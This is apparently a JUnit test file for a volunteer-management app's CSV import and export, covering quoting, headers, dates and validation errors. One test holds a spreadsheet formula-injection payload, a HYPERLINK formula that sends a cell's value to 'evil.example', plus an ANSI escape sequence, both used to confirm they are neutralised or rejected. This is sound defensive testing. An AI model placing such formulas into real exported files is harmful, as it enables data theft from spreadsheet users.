package be.pillars.core.internal.volunteer;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.time.DayOfWeek;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import be.pillars.api.LocalizedText;
import be.pillars.api.volunteer.Consent;
import be.pillars.api.volunteer.Preference;
import be.pillars.api.volunteer.Volunteer;
import be.pillars.api.volunteer.VolunteerData;
import be.pillars.api.volunteer.VolunteerStatus;
import be.pillars.api.volunteer.WeeklySlot;

class VolunteerCsvTest {

    private static final UUID ID = UUID.fromString("00000000-0000-0000-0000-00000000000a");

    /** A volunteer as stored, its lists in a fixed order so that the file is always the same. */
    private static Volunteer stored(VolunteerData an) {
        return new Volunteer(ID, 1, new VolunteerData(an.firstName(), an.lastName(), an.email(), an.phone(),
                an.birthDate(), an.postalCode(), an.district(), new TreeSet<>(an.languages()),
                new TreeSet<>(an.skills()), an.interests(), an.availability(), an.unavailableDates(),
                an.preference(), VolunteerStatus.ACTIVE, an.consents(), an.gender()), Instant.EPOCH, Instant.EPOCH);
    }

    @Test
    void writesExcelFriendlyUtf8WithQuotingWhereNeeded() {
        String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an("Ann-Sofie", "D'Hondt; Peeters",
                "an@example.be"))), Locale.ENGLISH);
        assertEquals("\uFEFFid;firstName;lastName;email;phone;birthDate;postalCode;district;languages;skills;"
                + "interests;preference;status;availability;unavailableDates;consents\r\n"
                + "00000000-0000-0000-0000-00000000000a;Ann-Sofie;\"D'Hondt; Peeters\";an@example.be;'+32 11 22 33 44;"
                + "1990-04-01;3500;Kiewit;en|nl;cooking|first-aid;sport;BOTH;ACTIVE;MONDAY 09:00-12:00;2026-12-24;"
                + "matching@2026-11-01T08:00:00Z\r\n", csv);
    }

    @Test
    void aFormulaInANameIsExportedAsTextAndImportedBackAsStored() {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Open\")";
        String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an(formula, "-Peeters",
                "an@example.be"))), Locale.ENGLISH);
        assertEquals("00000000-0000-0000-0000-00000000000a;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,"
                + "\"\"Open\"\")\";'-Peeters;an@example.be;'+32 11 22 33 44;1990-04-01;3500;Kiewit;en|nl;"
                + "cooking|first-aid;sport;BOTH;ACTIVE;MONDAY 09:00-12:00;2026-12-24;matching@2026-11-01T08:00:00Z",
                csv.lines().toList().get(1));
        VolunteerCsv.Parsed back = VolunteerCsv.read(csv.getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(), back.problems());
        VolunteerData an = back.volunteers().get(0);
        assertEquals(List.of(formula, "-Peeters", "+32 11 22 33 44"), List.of(an.firstName(), an.lastName(),
                an.phone()));
        // a file made elsewhere, without the quote, is data too: the name is stored as it is written
        VolunteerCsv.Parsed typed = read("firstName;lastName;email;postalCode;preference\n"
                + "\"" + formula.replace("\"", "\"\"") + "\";@Peeters;an@example.be;3500;BOTH\n");
        assertEquals(List.of(), typed.problems());
        assertEquals(formula, typed.volunteers().get(0).firstName());
        assertEquals("@Peeters", typed.volunteers().get(0).lastName());
    }

    @Test
    void controlCharactersAreProblemsOfTheirLineAndColumn() {
        VolunteerCsv.Parsed parsed = read("firstName;lastName;email;postalCode;preference;district;skills\n"
                + "An\u0000;Peeters;an@example.be;3500;BOTH;;\n"
                + "Bo;Claes;bo@example.be;3510;BOTH;\u001b[2JKiewit;cooking|\u009bfirst-aid\n"
                + "Dirk;\"Lambrechts\nJanssens\";dirk@example.be;3500;BOTH;;\n");
        // a lone surrogate cannot come in UTF-8 bytes: the strict decoder refuses the file (not_utf8)
        assertEquals(List.of("2 firstName invalid_text", "3 district invalid_text", "3 skills invalid_text",
                "4 lastName invalid_text"), parsed.problems().stream()
                        .map(problem -> problem.row() + " " + problem.field() + " " + problem.code()).toList());
        assertEquals("Tekst met een controleteken (U+001B) op positie 1", parsed.problems().get(1).text().nl());
    }

    private static VolunteerCsv.Parsed read(String text) {
        return VolunteerCsv.read(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void readsSemicolonsWithAByteOrderMarkAndCommasWithout() {
        VolunteerCsv.Parsed excel = read("\uFEFFfirstName;LASTNAME;email;postalCode;preference;languages;skills\r\n"
                + "An;\"D'Hondt; Peeters\";an@example.be;3500;both;nl|fr;first-aid\r\n\r\n"
                + "Bo;Claes;bo@example.be;3510;REGULAR;;\r\n");
        assertEquals(List.of(), excel.problems());
        assertEquals(List.of(2, 4), excel.lines());
        VolunteerData an = excel.volunteers().get(0);
        assertEquals("D'Hondt; Peeters", an.lastName());
        assertEquals(Set.of("nl", "fr"), an.languages());
        assertEquals(Preference.BOTH, an.preference());
        assertEquals(Set.of(), excel.volunteers().get(1).skills());
        VolunteerCsv.Parsed plain = read("firstName,lastName,email,postalCode,preference\nAn,Peeters,an@example.be,3500,BOTH\n");
        assertEquals(1, plain.volunteers().size());
        assertEquals("an@example.be", plain.volunteers().get(0).email());
    }

    @Test
    void namesTheLineAndColumnOfWhatCannotBeRead() {
        VolunteerCsv.Parsed parsed = read("firstName;lastName;email;postalCode;preference;birthDate\n"
                + "An;Peeters;an@example.be;3500;SOMETIMES;1990-02-30\n"
                + "Bo;Claes;bo@example.be\n");
        assertEquals(List.of("2 birthDate invalid_date", "2 preference invalid_value", "3 null wrong_column_count"),
                parsed.problems().stream().map(problem -> problem.row() + " " + problem.field() + " " + problem.code())
                        .toList());
    }

    @Test
    void refusesAHeaderWithUnknownMissingOrDoubleColumns() {
        VolunteerCsv.Parsed parsed = read("firstName;surname;email;email;postalCode\n");
        assertEquals(List.of("email duplicate_column", "lastName missing_column", "preference missing_column",
                "surname unknown_column"), parsed.problems().stream()
                        .map(problem -> problem.field() + " " + problem.code()).sorted().toList());
        assertEquals("not_utf8", VolunteerCsv.read(new byte[] {(byte) 0xC3, (byte) 0x28}).problems().get(0).code());
        // U+DC00 encoded on its own, as a lax encoder writes a lone surrogate
        assertEquals("not_utf8", VolunteerCsv.read(new byte[] {'A', (byte) 0xED, (byte) 0xB0, (byte) 0x80}).problems()
                .get(0).code());
    }

    @Test
    void theHeaderIsDutchUnlessEnglishIsAskedAndAnImportTakesEitherWithEveryOptionalColumnBack() {
        VolunteerData an = VolunteerServiceContract.an("An", "Peeters", "an@example.be");
        String dutch = VolunteerCsv.write(List.of(stored(an)), LocalizedText.DUTCH);
        assertEquals("\uFEFFid;voornaam;achternaam;e-mail;telefoon;geboortedatum;postcode;wijk;talen;vaardigheden;"
                + "interesses;voorkeur;status;beschikbaarheid;onbeschikbaar;toestemmingen", dutch.lines().findFirst()
                        .orElseThrow());
        VolunteerCsv.Parsed back = read(dutch);
        assertEquals(List.of(), back.problems());
        VolunteerData read = back.volunteers().get(0);
        assertEquals(an.availability(), read.availability());
        assertEquals(an.unavailableDates(), read.unavailableDates());
        assertEquals(an.consents(), read.consents());
        assertEquals(null, read.gender(), "the gender is never written");
    }

    @Test
    void anImportTakesTheOptionalColumnsOfTheJsonInDutchOrEnglishWords() {
        VolunteerCsv.Parsed parsed = read("voornaam;achternaam;e-mail;postcode;voorkeur;gender;beschikbaarheid;"
                + "onbeschikbaar;toestemmingen\n"
                + "An;Peeters;an@example.be;3500;BOTH;non-binair;maandag 9:00-12:00|SATURDAY 14:00-17:30;"
                + "2026-12-24|2026-12-31;matching@2026-11-01|guardian@2026-11-02T10:15:00Z\n");
        assertEquals(List.of(), parsed.problems());
        VolunteerData an = parsed.volunteers().get(0);
        assertEquals("non-binair", an.gender());
        assertEquals(List.of(new WeeklySlot(DayOfWeek.MONDAY, LocalTime.of(9, 0), LocalTime.of(12, 0)),
                new WeeklySlot(DayOfWeek.SATURDAY, LocalTime.of(14, 0), LocalTime.of(17, 30))), an.availability());
        assertEquals(Set.of(LocalDate.of(2026, 12, 24), LocalDate.of(2026, 12, 31)), an.unavailableDates());
        assertEquals(List.of(new Consent("matching", Instant.parse("2026-11-01T00:00:00Z")),
                new Consent("guardian", Instant.parse("2026-11-02T10:15:00Z"))), an.consents());

        VolunteerCsv.Parsed bad = read("firstName;lastName;email;postalCode;preference;availability;"
                + "unavailableDates;consents\n"
                + "An;Peeters;an@example.be;3500;BOTH;someday 9:00-12:00|MONDAY 25:00-26:00;2026-13-01;matching\n");
        assertEquals(List.of("2 availability invalid_slot", "2 availability invalid_slot", "2 unavailableDates "
                + "invalid_date", "2 consents invalid_consent"), bad.problems().stream()
                        .map(problem -> problem.row() + " " + problem.field() + " " + problem.code()).toList());
    }
}
